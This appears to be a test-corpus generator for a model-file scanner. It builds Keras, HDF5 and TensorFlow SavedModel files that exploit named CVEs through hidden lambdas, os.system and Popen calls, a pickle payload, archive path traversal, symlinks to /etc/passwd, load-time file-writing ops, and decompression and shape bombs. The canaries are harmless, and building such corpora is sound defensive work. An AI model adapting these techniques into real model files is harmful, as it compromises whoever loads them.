"""Makes model files that attack whoever opens them: `python tests/hostile/corpus.py FOLDER`.

Each has a canary of its own: a file that must not appear, a port on this machine that must not be
called, a fifo on which whoever opens it hangs, or a size that must not be allocated. Nothing is
committed; a maker writes one file or folder. What opcheck must say of each is in expected.tsv.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import os
import struct
import sys
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import h5py
import numpy as np

Config = dict[str, Any]


@dataclass(frozen=True)
class Bait:
    """What one file reaches for. ``folder`` is its own, and holds nothing else."""

    folder: Path
    port: int

    @property
    def canary(self) -> Path:
        return self.folder / "canary"

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}/vocabulary.txt"

    def trap(self, name: str) -> str:
        """A path on which whoever opens it hangs."""
        os.mkfifo(self.folder / name)
        return str(self.folder / name)


Make = Callable[[Path, Bait], None]
ATTACKS: dict[str, Make] = {}


def attack(*names: str) -> Callable[[Make], Make]:
    def add(make: Make) -> Make:
        ATTACKS.update(dict.fromkeys(names, make))
        return make

    return add


def archive_attack(name: str) -> Callable[[Make], Make]:
    """Two attacks: an archive of Keras 3, and the same as Keras 2.15 writes it."""

    def add(make: Make) -> Make:
        def of_keras_2(path: Path, bait: Bait) -> None:
            make(path, bait)
            with zipfile.ZipFile(path) as archive:
                members = {i.filename: archive.read(i) for i in archive.infolist()}
            config = members["config.json"].replace(b'"batch_shape"', b'"batch_input_shape"')
            members |= {"config.json": config, "metadata.json": b'{"keras_version": "2.15.0"}'}
            with zipfile.ZipFile(path, "w") as archive:
                for member, content in members.items():
                    archive.writestr(member, content)

        attack(f"{name}.keras")(make)
        attack(f"{name}-keras2.keras")(of_keras_2)
        return make

    return add


def make_all(folder: Path, port: int) -> dict[str, tuple[Path, Bait]]:
    """Every file with its bait, by the attack's name."""
    made = {}
    for name, make in ATTACKS.items():
        bait = Bait(folder / "baits" / name, port)
        bait.folder.mkdir(parents=True)
        path = folder / name
        make(path, bait)
        made[name] = path, bait
    return made


# -- parts


def keras3(class_name: str, config: Any, module: str = "keras.layers") -> Config:
    return {"module": module, "class_name": class_name, "config": config, "registered_name": None}


def function(module: str, name: str) -> Config:
    return {
        "module": module,
        "class_name": "function",
        "config": name,
        "registered_name": "function",
    }


def archived(
    path: Path, *layers: Config, dtype: str = "float32", width: int = 4, **members: bytes
) -> None:
    """A ``.keras`` archive of a Sequential with an input of ``width`` numbers.

    ``members`` are further files in it, or the weights.
    """
    fed = {"batch_shape": [None, width], "dtype": dtype, "name": "input"}
    first = keras3("InputLayer", fed)
    root = keras3("Sequential", {"name": "m", "layers": [first, *layers]}, "keras")
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.8.0"}))
        archive.writestr("config.json", json.dumps(root))
        for name, content in {"model.weights.h5": weights(), **members}.items():
            archive.writestr(name, content)


def weights(fill: Callable[[h5py.File], object] = lambda _: None) -> bytes:
    """An HDF5 file as Keras 3 writes it, ``fill`` adding to it."""
    file = io.BytesIO()
    with h5py.File(file, "w") as h5:
        h5.create_dataset("layers/dense/vars/0", data=np.zeros((4, 2), "f4"))
        h5.create_dataset("layers/dense/vars/1", data=np.zeros(2, "f4"))
        fill(h5)
    return file.getvalue()


def legacy(*layers: Config) -> str:
    """The config of the same model, as Keras 2 writes it."""
    first = {
        "class_name": "InputLayer",
        "config": {"batch_input_shape": [None, 4], "dtype": "float32", "name": "input"},
    }
    return json.dumps(
        {"class_name": "Sequential", "config": {"name": "m", "layers": [first, *layers]}}
    )


def dense(**extra: Any) -> Config:
    return {
        "class_name": "Dense",
        "config": {"name": "dense", "units": 2, "activation": "linear", **extra},
    }


def stored(path: Path, *layers: Config) -> h5py.File:
    """An HDF5 model; the caller adds to it and closes it."""
    file = h5py.File(path, "w")
    file.attrs["model_config"] = legacy(*(layers or (dense(),)))
    file.attrs["keras_version"] = "2.10.0"
    file.attrs["backend"] = "tensorflow"
    group = file.create_group("model_weights/dense")
    group.attrs["weight_names"] = ["dense/kernel:0", "dense/bias:0"]
    file["model_weights"].attrs["layer_names"] = ["dense"]
    group["dense/kernel:0"], group["dense/bias:0"] = np.zeros((4, 2), "f4"), np.zeros(2, "f4")
    return file


def code(bait: Bait) -> str:
    """A marshalled function of this Python that leaves the canary."""
    source = f"lambda x: (__import__('pathlib').Path({str(bait.canary)!r}).touch(), x)[1]"
    compiled = eval(compile(source, "<attack>", "eval")).__code__
    return base64.b64encode(marshal.dumps(compiled)).decode()


def field(number: int, payload: bytes) -> bytes:
    size, data = len(payload), bytes([number << 3 | 2])
    while size > 127:
        data, size = data + bytes([size & 127 | 128]), size >> 7
    return data + bytes([size]) + payload


# -- code in the file


def lambda_in_hdf5(path: Path, bait: Bait) -> None:
    config = {"name": "evil", "function": [code(bait), None, None], "function_type": "lambda"}
    config |= {"output_shape": None, "output_shape_type": "raw", "arguments": {}, "module": "m"}
    stored(path, {"class_name": "Lambda", "config": config}, dense()).close()


def _lambda(bait: Bait) -> Config:
    value = {"code": code(bait), "defaults": None, "closure": None}
    inner = {"class_name": "__lambda__", "config": value}
    return keras3("Lambda", {"name": "evil", "function": inner, "output_shape": [4]})


@archive_attack("CVE-2024-3660")
def lambda_in_archive(path: Path, bait: Bait) -> None:
    archived(path, _lambda(bait))


attack("CVE-2024-3660.h5")(lambda_in_hdf5)


@attack("CVE-2025-9905.h5")
def lambda_of_keras_3_in_hdf5(path: Path, bait: Bait) -> None:
    """HDF5 has no safe mode: Keras 3 runs what it refuses in an archive."""
    with stored(path) as h5:
        first = keras3("InputLayer", {"batch_shape": [None, 4], "name": "input"})
        layers = [first, _lambda(bait), keras3("Dense", {"name": "dense", "units": 2})]
        root = {"class_name": "Sequential", "config": {"name": "m", "layers": layers}}
        h5.attrs["model_config"], h5.attrs["keras_version"] = json.dumps(root), "3.8.0"


@archive_attack("keras-23055-nested-lambda")
def lambda_in_a_wrapper(path: Path, bait: Bait) -> None:
    """Lambda.from_config, called by another layer's, outside the scope of safe mode."""
    rows = keras3("Reshape", {"name": "rows", "target_shape": [2, 2]})
    archived(path, rows, keras3("TimeDistributed", {"name": "outer", "layer": _lambda(bait)}))


@archive_attack("CVE-2025-1550")
def any_function(path: Path, bait: Bait) -> None:
    layer = function("os", "system")
    layer["inbound_nodes"] = [{"args": [f"touch {bait.canary}"], "kwargs": {}}]
    archived(path, layer)


@archive_attack("CVE-2025-1550-activation")
def any_function_as_activation(path: Path, _: Bait) -> None:
    config = {"name": "dense", "units": 2, "activation": function("os", "getcwd")}
    archived(path, keras3("Dense", config))


@archive_attack("CVE-2025-1550-compile")
def any_function_as_loss(path: Path, bait: Bait) -> None:
    """In the compile config, which is rebuilt after the layers."""
    first = keras3("InputLayer", {"batch_shape": [None, 4], "dtype": "float32", "name": "input"})
    layers = [first, keras3("Dense", {"name": "dense", "units": 2})]
    popen = keras3("Popen", {"args": ["touch", str(bait.canary)]}, "subprocess")
    root = keras3("Sequential", {"name": "m", "layers": layers}, "keras")
    root["compile_config"] = {"loss": popen, "optimizer": "sgd"}
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("config.json", json.dumps(root))
        archive.writestr("model.weights.h5", weights())


def _get_file(path: Path, bait: Bait, origin: str, **more: object) -> None:
    layer = function("keras.utils", "get_file")
    arguments = {"origin": origin, "cache_dir": str(bait.folder), "cache_subdir": "", **more}
    layer["inbound_nodes"] = [{"args": ["canary"], "kwargs": arguments}]
    archived(path, layer)


@archive_attack("CVE-2025-8747")
def get_file(path: Path, bait: Bait) -> None:
    """A function of Keras' own, which downloads any file to any place."""
    _get_file(path, bait, bait.url)


@archive_attack("CVE-2025-12060")
def get_file_that_unpacks(path: Path, bait: Bait) -> None:
    """``../`` in a tar."""
    _tar(path, bait, [(tarfile.REGTYPE, "a/../../canary", "")])


@archive_attack("CVE-2025-12638")
def get_file_that_unpacks_links(path: Path, bait: Bait) -> None:
    """A link out of the folder, longer than a path may be, so that nobody resolves it."""
    deep = "/".join(["d" * 200] * 20)
    links = [(tarfile.SYMTYPE, "link", f"{deep}/../../.."), (tarfile.REGTYPE, "link/canary", "")]
    _tar(path, bait, links)


@archive_attack("keras-23055-hard-link")
def get_file_that_unpacks_hard_links(path: Path, bait: Bait) -> None:
    """A hard link to a file outside, then the same name again with content."""
    links = [(tarfile.LNKTYPE, "own", str(bait.canary)), (tarfile.REGTYPE, "own", "")]
    _tar(path, bait, links)


@archive_attack("keras-23055-symbolic-link")
def get_file_that_unpacks_symbolic_links(path: Path, bait: Bait) -> None:
    links = [(tarfile.SYMTYPE, "out", str(bait.folder)), (tarfile.REGTYPE, "out/canary", "")]
    _tar(path, bait, links)


def _tar(path: Path, bait: Bait, members: list[tuple[bytes, str, str]]) -> None:
    packed = bait.folder / "packed.tar"
    with tarfile.open(packed, "w") as tar:
        for kind, name, target in members:
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, target
            tar.addfile(info, io.BytesIO())
    _get_file(path, bait, packed.as_uri(), extract=True, archive_format="tar")


@archive_attack("CVE-2025-9906")
def switches_safety_off(path: Path, bait: Bait) -> None:
    switch = function("keras.config", "enable_unsafe_deserialization")
    switch["inbound_nodes"] = [{"args": [], "kwargs": {}}]
    archived(path, switch, _lambda(bait))


COPY_OF_KERAS = "tensorflow.python.keras.layers.core"
"""TensorFlow's own, whose Lambda knows no safe mode."""


def _old_lambda(bait: Bait) -> Config:
    """The config of a Lambda, as Keras 2 writes it."""
    config = {"name": "evil", "trainable": True, "dtype": "string", "module": None}
    config |= {"function": [code(bait), None, None], "function_type": "lambda"}
    config |= {"output_shape": None, "output_shape_type": "raw", "output_shape_module": None}
    return {**config, "arguments": {}}


def _vectorization(evil: Config) -> Config:
    """Of a TextVectorization, which calls what it standardizes text with, whatever Keras makes of
    it."""
    text = {"name": "text", "trainable": True, "dtype": "string", "max_tokens": 10}
    text |= {"standardize": evil, "split": "whitespace", "ngrams": None, "output_mode": "int"}
    text |= {"output_sequence_length": 4, "pad_to_max_tokens": False, "vocabulary": ["a"]}
    return text | {"sparse": False, "ragged": False, "idf_weights": None, "encoding": "utf-8"}


def _split_by(path: Path, bait: Bait, lookalike: Config) -> None:
    evil = {"module": COPY_OF_KERAS, **lookalike, "config": _old_lambda(bait)}
    archived(path, keras3("TextVectorization", _vectorization(evil)), dtype="string", width=1)


@attack("lambda-in-a-tuple.h5")
def lambda_in_a_tuple(path: Path, bait: Bait) -> None:
    """Keras 2 takes the items of what the metadata of a SavedModel marks as a tuple."""
    hidden = {"class_name": "__tuple__", "items": "Lambda"}
    evil = {"class_name": hidden, "module": COPY_OF_KERAS, "registered_name": None}
    text = _vectorization({**evil, "config": _old_lambda(bait)})
    fed = {"batch_input_shape": [None, 1], "dtype": "string", "name": "input"}
    layers = [
        {"class_name": "InputLayer", "config": fed},
        {"class_name": "TextVectorization", "config": text},
    ]
    root = {"class_name": "Sequential", "config": {"name": "m", "layers": layers}}
    with stored(path) as file:
        file.attrs["model_config"] = json.dumps(root)


@attack("function-in-a-tuple.h5")
def function_in_a_tuple(path: Path, bait: Bait) -> None:
    """Copies a file, with what Keras 2 takes for a function of TensorFlow's that only computes."""
    hidden = {"class_name": "__tuple__", "items": "TFOpLambda"}
    config = {"name": "evil", "trainable": True, "dtype": "float32", "function": "io.gfile.copy"}
    given = {"dst": str(bait.canary), "overwrite": True}
    evil = {"class_name": hidden, "name": "evil", "config": config}
    evil["inbound_nodes"] = [["_CONSTANT_VALUE", -1, "/etc/hostname", given]]
    functional(path, evil)


@attack("lambda-around-a-cell.h5")
def lambda_around_a_cell(path: Path, bait: Bait) -> None:
    """It is looked up in any module, and the copy of Keras has a loader of its own."""
    cell = {"class_name": "SimpleRNNCell", "config": {"name": "cell", "units": 4}}
    config = {"name": "residual", "cell": cell, "residual_fn": [code(bait), None, None]}
    config |= {"residual_fn_type": "lambda", "residual_fn_module": "tensorflow.python.keras.models"}
    wrapped = {"class_name": "ResidualWrapper", "config": config}
    spread = {"class_name": "RepeatVector", "config": {"name": "spread", "n": 3}}
    rnn = {"class_name": "RNN", "config": {"name": "rnn", "cell": wrapped}}
    stored(path, spread, rnn).close()


@archive_attack("savedmodel-reloaded")
def savedmodel_reloaded(path: Path, bait: Bait) -> None:
    (bait.folder / "elsewhere").mkdir()
    bait.trap("elsewhere/saved_model.pb")
    evil = keras3("ReloadedLayer", {"filepath": str(bait.folder / "elsewhere"), "name": "r"})
    evil["module"] = "keras.src.export.export_lib"
    archived(path, keras3("TextVectorization", _vectorization(evil)), dtype="string", width=1)


@archive_attack("savedmodel-under-a-package")
def savedmodel_under_a_package(path: Path, bait: Bait) -> None:
    """Keras 2.11 and later register their own optimizers under `Custom>`."""
    (bait.folder / "elsewhere").mkdir()
    bait.trap("elsewhere/saved_model.pb")
    evil = keras3("Custom>TFSMLayer", {"filepath": str(bait.folder / "elsewhere"), "name": "r"})
    archived(path, keras3("TextVectorization", _vectorization(evil)), dtype="string", width=1)


@archive_attack("lambda-as-a-type")
def lambda_as_a_type(path: Path, bait: Bait) -> None:
    names = {"class_name": "__typespec__", "spec_name": "Lambda", "registered_name": "x"}
    _split_by(path, bait, names)


@archive_attack("lambda-under-another-name")
def lambda_under_another_name(path: Path, bait: Bait) -> None:
    """Where the module has no such class, Keras takes what is called as it was registered."""
    _split_by(path, bait, {"class_name": "Conv2D", "registered_name": "Lambda"})


@archive_attack("CVE-2025-12058-file")
def vocabulary_file(path: Path, bait: Bait) -> None:
    config = {"name": "lookup", "vocabulary": bait.trap("vocabulary")}
    archived(path, keras3("StringLookup", config))


@attack("CVE-2025-12058-url.h5")
def vocabulary_url(path: Path, bait: Bait) -> None:
    config = {"name": "lookup", "vocabulary": bait.url, "dtype": "string"}
    stored(path, {"class_name": "StringLookup", "config": config}).close()


@archive_attack("CVE-2026-1462")
def outside_savedmodel(path: Path, bait: Bait) -> None:
    (bait.folder / "elsewhere").mkdir()
    bait.trap("elsewhere/saved_model.pb")
    config = {"name": "evil", "filepath": str(bait.folder / "elsewhere")}
    archived(path, keras3("TFSMLayer", config))


@archive_attack("torch-module")
def pickled_module(path: Path, bait: Bait) -> None:
    pickled = base64.b64encode(f"cos\nsystem\n(S'touch {bait.canary}'\ntR.".encode()).decode()
    module = {"class_name": "__bytes__", "config": {"value": pickled}}
    archived(path, keras3("TorchModuleWrapper", {"name": "evil", "module": module}))


@archive_attack("standard-library")
def standard_library(path: Path, bait: Bait) -> None:
    config = {"args": ["touch", str(bait.canary)]}
    archived(path, keras3("Popen", config, "subprocess"))


# -- ops that touch files


def _attribute(name: str, value: bytes) -> bytes:
    return field(5, field(1, name.encode()) + field(2, value))


_STRING = b"\x30\x07"  # type: DT_STRING


def _const(name: str, text: str, *inputs: str, shape: bytes = b"") -> bytes:
    tensor = field(8, b"\x08\x07" + field(2, shape) + field(8, text.encode()))
    return _node(name, "Const", *inputs, dtype=_STRING, value=tensor)


def _node(name: str, op: str, *inputs: str, **attributes: bytes) -> bytes:
    data = field(1, name.encode()) + field(2, op.encode())
    data += b"".join(field(3, i.encode()) for i in inputs)
    return field(1, data + b"".join(_attribute(k, v) for k, v in attributes.items()))


_FLOATS = {"dtype": b"\x30\x01", "shape": field(7, field(2, b"\x08\x01") + field(2, b"\x08\x04"))}


def _graph(bait: Bait, *nodes: bytes) -> bytes:
    """A frozen model with one input, whose output depends on ``evil``."""
    del bait
    type_ = {"T": b"\x30\x01"}
    model = [_node("x", "Placeholder", **_FLOATS), _node("y", "Relu", "x", "^evil", **type_)]
    return b"".join([*model, *nodes])


@attack("write-file.pb")
def writes_a_file(path: Path, bait: Bait) -> None:
    consts = _const("a", str(bait.canary)) + _const("b", "x")
    path.write_bytes(_graph(bait, consts, _node("evil", "WriteFile", "a", "b")))


@attack("print-to-file.pb")
def prints_to_a_file(path: Path, bait: Bait) -> None:
    """``tf.print`` with a file for a stream: an op that mostly is harmless."""
    stream = field(2, f"file://{bait.canary}".encode())
    write = _node("evil", "PrintV2", "b", output_stream=stream, end=field(2, b"\n"))
    path.write_bytes(_graph(bait, _const("b", "x"), write))


@attack("print-to-file.h5")
def layer_that_prints_to_a_file(path: Path, bait: Bait) -> None:
    """The same in a layer of Keras 2."""
    stream = base64.b64encode(f"file://{bait.canary}".encode()).decode()
    node = {"name": "p", "op": "PrintV2", "input": ["x"], "attr": {"output_stream": {"s": stream}}}
    config = {"name": "evil", "trainable": True, "node_def": json.dumps(node), "constants": {}}
    stored(path, {"class_name": "TensorFlowOpLayer", "config": config}, dense()).close()


def _savedmodel(path: Path, *meta_graphs: bytes) -> None:
    (path / "variables").mkdir(parents=True)
    graphs = b"".join(field(2, meta) for meta in meta_graphs)
    (path / "saved_model.pb").write_bytes(b"\x08\x01" + graphs)


def _meta_graph(graph: bytes, saver: bytes = b"", collections: bytes = b"") -> bytes:
    info = field(1, field(4, b"serve"))
    floats = b"\x10\x01" + field(3, field(2, b"\x08\x01") + field(2, b"\x08\x04"))
    output = field(2, field(1, b"y") + field(2, field(1, b"y:0") + floats))
    given = field(1, field(1, b"x") + field(2, field(1, b"x:0") + floats))
    signature = field(5, field(1, b"serving_default") + field(2, given + output))
    return info + field(2, graph) + saver + collections + signature


_PLAIN = _node("x", "Placeholder", **_FLOATS) + _node("y", "Relu", "x", T=b"\x30\x01")
# A collection: what TensorFlow runs when it has loaded the model.
_RUNS_EVIL = field(4, field(1, b"saved_model_main_op") + field(2, field(1, field(1, b"evil"))))


def _save_nodes(bait: Bait, output: str = "") -> list[bytes]:
    """What saves a text to the canary; in a function, inputs are an ``output`` of their nodes."""
    one = field(2, b"\x08\x01")
    texts = [_const("a", str(bait.canary)), _const("n", "n", shape=one), _const("s", "", shape=one)]
    inputs = [name + output for name in "ansn"]
    return [*texts, _node("evil", "SaveV2", *inputs, dtypes=field(1, b"\x32\x01\x07"))]


def _function(signature: bytes, *nodes: bytes) -> bytes:
    """One for a graph's library, which runs ``evil`` and returns a text."""
    signature += field(3, field(1, b"t") + b"\x18\x07")
    returned = field(4, field(1, b"t") + field(2, b"r:output:0"))
    # A graph has another number for its nodes.
    body = b"".join(b"\x1a" + node[1:] for node in (*nodes, _const("r", "", "^evil")))
    return field(1, field(1, signature) + body + returned)


def _call(op: str, **attributes: bytes) -> bytes:
    """A call of such a function, and the node ``evil`` that depends on it."""
    return _node("call", op, **attributes) + _node("evil", "Identity", "call", T=_STRING)


@attack("second-graph-savedmodel")
def savedmodel_with_two_graphs(path: Path, bait: Bait) -> None:
    """TensorFlow takes the one with the tag that it wants."""
    consts = _const("a", str(bait.canary)) + _const("b", "x")
    evil = _graph(bait, consts, _node("evil", "WriteFile", "a", "b"))
    _savedmodel(path, field(2, _PLAIN), _meta_graph(evil))


@attack("saver-savedmodel")
def savedmodel_that_saves_when_it_loads(path: Path, bait: Bait) -> None:
    """Ops that are no hazard in the saver, named as what restores the variables."""
    saver = field(3, field(1, b"name:0") + field(2, b"evil:0") + field(3, b"evil"))
    graph = _PLAIN + _const("name", "") + b"".join(_save_nodes(bait))
    _savedmodel(path, _meta_graph(graph, saver))


@attack("init-op-savedmodel")
def savedmodel_with_an_initializer(path: Path, bait: Bait) -> None:
    consts = _const("a", str(bait.canary)) + _const("b", "x")
    evil = _node("evil", "WriteFile", "a", "b")
    _savedmodel(path, _meta_graph(_PLAIN + consts + evil, collections=_RUNS_EVIL))


@attack("hidden-op-savedmodel")
def savedmodel_with_a_hidden_op(path: Path, bait: Bait) -> None:
    """The number of a field has more bits than protobuf looks at in TensorFlow 2.10."""
    consts = _const("a", str(bait.canary)) + _const("b", "x")
    evil = b"\x8a\x80\x80\x80\x10" + _node("evil", "WriteFile", "a", "b")[1:]
    _savedmodel(path, _meta_graph(_PLAIN + consts + evil, collections=_RUNS_EVIL))


@attack("print-key-twice-savedmodel")
def savedmodel_with_a_key_twice(path: Path, bait: Bait) -> None:
    """Of two names of an attribute, protobuf takes the last one."""
    stream = field(2, field(2, f"file://{bait.canary}".encode()))
    attribute = field(5, field(1, b"x") + field(1, b"output_stream") + stream)
    evil = field(1, field(1, b"evil") + field(2, b"PrintV2") + field(3, b"b") + attribute)
    _savedmodel(path, _meta_graph(_PLAIN + _const("b", "x") + evil, collections=_RUNS_EVIL))


@attack("print-placeholder-savedmodel")
def savedmodel_with_a_file_for_a_function(path: Path, bait: Bait) -> None:
    """The op is in a function, and its file is an attribute of the call."""
    signature = field(1, b"P") + field(4, field(1, b"os") + field(2, b"string"))
    evil = _node("evil", "PrintV2", "b:output:0", output_stream=field(9, b"os"))
    library = field(2, _function(signature, _const("b", "x"), evil))
    call = _call("P", os=field(2, f"file://{bait.canary}".encode()))
    _savedmodel(path, _meta_graph(_PLAIN + call + library, collections=_RUNS_EVIL))


_CALLS_F = {
    "Tin": field(1, b""),
    "Tout": field(1, b"\x32\x01\x07"),
    "f": field(10, field(1, b"F")),
}
_SAVER = field(3, field(1, b"name:0") + field(2, b"save:0") + field(3, b"restore"))
_SAVER_NODES = (
    _node("saved", "StatefulPartitionedCall", **_CALLS_F)
    + _node("save", "Identity", "saved", T=_STRING)
    + _node("restore", "NoOp")
    + _const("name", "")
)


def _f(bait: Bait, signature: bytes = field(1, b"F")) -> bytes:
    """A library with ``F``, which saves; in the saver that is no hazard."""
    return field(2, _function(signature, *_save_nodes(bait, ":output:0")))


@attack("saver-as-an-op-savedmodel")
def savedmodel_with_an_op_that_is_the_saver(path: Path, bait: Bait) -> None:
    graph = _PLAIN + _SAVER_NODES + _call("F") + _f(bait)
    _savedmodel(path, _meta_graph(graph, _SAVER, _RUNS_EVIL))


@attack("saver-as-a-variable-savedmodel")
def savedmodel_with_a_variable_that_saves(path: Path, bait: Bait) -> None:
    """Local variables are initialized when the model is loaded, by the op that they name."""
    variable = field(1, b"name:0") + field(2, b"save") + field(3, b"name:0")
    collection = field(1, b"local_variables") + field(2, field(2, field(1, variable)))
    graph = _PLAIN + _SAVER_NODES + _f(bait)
    _savedmodel(path, _meta_graph(graph, _SAVER, field(4, collection)))


@attack("saver-in-two-parts-savedmodel")
def savedmodel_with_a_graph_in_two_parts(path: Path, bait: Bait) -> None:
    """Protobuf merges them; the saver is in the first, what calls it in the second."""
    rest = field(2, _call("StatefulPartitionedCall", **_CALLS_F))
    graph = _PLAIN + _SAVER_NODES + _f(bait)
    _savedmodel(path, _meta_graph(graph, _SAVER + rest, _RUNS_EVIL))


@attack("saver-of-two-names-savedmodel")
def savedmodel_with_a_function_of_two_names(path: Path, bait: Bait) -> None:
    call = _call("StatefulPartitionedCall", **_CALLS_F)
    library = _f(bait, field(1, b"Z") + field(1, b"F"))
    _savedmodel(path, _meta_graph(_PLAIN + _SAVER_NODES + call + library, _SAVER, _RUNS_EVIL))


# -- archives


def _named(name: str) -> Make:
    def make(path: Path, _: Bait) -> None:
        archived(path, keras3("Dense", {"name": "d", "units": 2}), **{name: b"x"})

    return make


for _index, _name in enumerate(
    ("../canary", "/tmp/canary", "a/../../canary", "C:/canary", "..\\canary", "a\x1b[31mb\n")
):
    attack(f"GHSA-hqp4-2352-xf5r-{_index}.keras")(_named(_name))


def _linked(path: Path, name: str, target: str, *below: str) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        link = zipfile.ZipInfo(name)
        link.external_attr = 0o120777 << 16
        archive.writestr(link, target)
        for each in below:
            archive.writestr(each, b"x")
        if name != "config.json":
            archive.writestr("config.json", legacy(dense()))


@attack("archive-link.keras")
def archive_link(path: Path, _: Bait) -> None:
    _linked(path, "config.json", "/etc/passwd")


@attack("archive-link-above.keras")
def archive_link_above(path: Path, bait: Bait) -> None:
    _linked(path, "assets", str(bait.folder), "assets/canary")


@attack("archive-bomb.keras")
def archive_bomb(path: Path, _: Bait) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("config.json", b" " * 2**26)


@attack("archive-size.keras")
def archive_size(path: Path, _: Bait) -> None:
    """A config that is as large as it says, and too large."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("config.json", b" " * (2**25 + 1))


@attack("archive-size-lies.keras")
def archive_size_lies(path: Path, _: Bait) -> None:
    """A bomb that says it is small."""
    archive_bomb(path, _)
    data = path.read_bytes()
    path.write_bytes(data.replace(struct.pack("<I", 2**26), struct.pack("<I", 2**12)))


@attack("archive-overlap.keras")
def archive_overlap(path: Path, _: Bait) -> None:
    """A thousand names for the same bytes."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("config.json", legacy(dense()))
        archive.writestr("a", os.urandom(2**16) * 64)
        for index in range(1000):
            again = zipfile.ZipInfo(f"b{index}")
            for name in ("header_offset", "file_size", "compress_size", "CRC", "compress_type"):
                setattr(again, name, getattr(archive.NameToInfo["a"], name))
            archive.filelist.append(again)


@attack("archive-twice.keras")
def archive_twice(path: Path, _: Bait) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("config.json", legacy(dense()))
        archive.filelist[0].filename = "other"
        archive.NameToInfo.clear()
        archive.writestr("config.json", legacy(dense()))
        archive.filelist[0].filename = "config.json"


@attack("archive-nested.keras")
def archive_nested(path: Path, bait: Bait) -> None:
    inner = path.with_suffix(".inner")
    archive_bomb(inner, bait)
    with zipfile.ZipFile(path, "w") as archive:
        archive.write(inner, "config.json")
    inner.unlink()


@attack("archive-directory.keras")
def archive_directory(path: Path, _: Bait) -> None:
    """A directory of 3 GB, most of it a hole in the file."""
    size = 3 * 2**30
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 60_000, 60_000, size, 30, 0)
    with path.open("wb") as file:
        file.write(b"PK\x03\x04" + b"\0" * 26)
        file.truncate(30 + size)
        file.seek(0, 2)
        file.write(end)


@attack("archive-members.keras")
def archive_members(path: Path, _: Bait) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        for index in range(10_001):
            archive.writestr(f"{index}", b"")


@attack("weights-bomb.keras")
def weights_bomb(path: Path, _: Bait) -> None:
    """Weights that are much larger once unpacked."""
    archived(path, keras3("Dense", {"name": "dense", "units": 2}), **{"model.weights.h5": b""})
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        mixed = os.urandom(2**13) + b"\0" * (2**20 - 2**13)  # below the ratio that is refused
        with archive.open("model_00001.weights.h5", "w", force_zip64=True) as member:
            for _block in range(300):
                member.write(mixed)


@attack("keras-23055-npz.keras")
def npz_bomb(path: Path, _: Bait) -> None:
    """Weights as an archive of arrays that declares far more than it stores."""
    header = repr({"descr": "<f4", "fortran_order": False, "shape": (2**40,)}).encode() + b"\n"
    array = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("layers/dense.npy", array + b"\0" * 2**20)
    layer = keras3("Dense", {"name": "dense", "units": 2})
    archived(path, layer, **{"model.weights.npz": inner.getvalue()})


# -- HDF5

# Every component of the path to a weight, as Keras 2 and as Keras 3 (in an archive) store it.
_LEGACY = "model_weights/dense/dense/kernel:0"
_KERAS_3 = "layers/dense/vars/0"


def _replaced(h5: h5py.File, path: str, by: object) -> None:
    del h5[path]
    h5[path] = by


def _links(kind: str, path_to: Callable[[Bait], str]) -> None:
    """Attacks with a link in the place of each component."""

    def link(bait: Bait) -> object:
        target = path_to(bait)
        return h5py.ExternalLink(target, "/x") if kind == "external" else h5py.SoftLink(target)

    for depth in range(1, 5):
        legacy_path = "/".join(_LEGACY.split("/")[:depth])
        archive_path = "/".join(_KERAS_3.split("/")[:depth])

        def in_hdf5(path: Path, bait: Bait, replaced: str = legacy_path) -> None:
            with stored(path) as h5:
                _replaced(h5, replaced, link(bait))

        def in_archive(path: Path, bait: Bait, replaced: str = archive_path) -> None:
            content = weights(lambda h5: _replaced(h5, replaced, link(bait)))
            layer = keras3("Dense", {"name": "dense", "units": 2})
            archived(path, layer, **{"model.weights.h5": content})

        attack(f"CVE-2026-1669-{kind}-link-{depth}.h5")(in_hdf5)
        attack(f"CVE-2026-1669-{kind}-link-{depth}.keras")(in_archive)


_links("external", lambda bait: bait.trap("elsewhere.h5"))
_links("soft", lambda _: "/model_weights")


def _weights_attack(name: str) -> Callable[[Callable[[h5py.Group, Bait], None]], None]:
    """An attack on the group of a layer's weights, in an HDF5 file and inside an archive."""

    def add(fill: Callable[[h5py.Group, Bait], None]) -> None:
        def in_hdf5(path: Path, bait: Bait) -> None:
            with stored(path) as h5:
                fill(h5["model_weights/dense"], bait)

        def in_archive(path: Path, bait: Bait) -> None:
            content = weights(lambda h5: fill(h5["layers/dense"], bait))
            layer = keras3("Dense", {"name": "dense", "units": 2})
            archived(path, layer, **{"model.weights.h5": content})

        attack(f"{name}.h5")(in_hdf5)
        attack(f"{name}.keras")(in_archive)

    return add


@_weights_attack("CVE-2026-1669-storage")
def external_storage(group: h5py.Group, _: Bait) -> None:
    group.create_dataset("k", (4,), "u1", external=[("/etc/passwd", 0, 4)])


@_weights_attack("keras-23055-virtual")
def virtual_dataset(group: h5py.Group, bait: Bait) -> None:
    layout = h5py.VirtualLayout((4,), "f4")
    layout[:] = h5py.VirtualSource(bait.trap("source.h5"), "x", (4,))
    group.create_virtual_dataset("k", layout)


@_weights_attack("GHSA-xfhx-r7ww-5995")
def shape_bomb(group: h5py.Group, _: Bait) -> None:
    """A pebibyte that is stored nowhere."""
    group.create_dataset("k", (2**48,), "f4", chunks=(2**20,))


@_weights_attack("hdf5-soft-cycle")
def soft_cycle(group: h5py.Group, _: Bait) -> None:
    group["a"], group["b"] = h5py.SoftLink(f"{group.name}/b"), h5py.SoftLink(f"{group.name}/a")


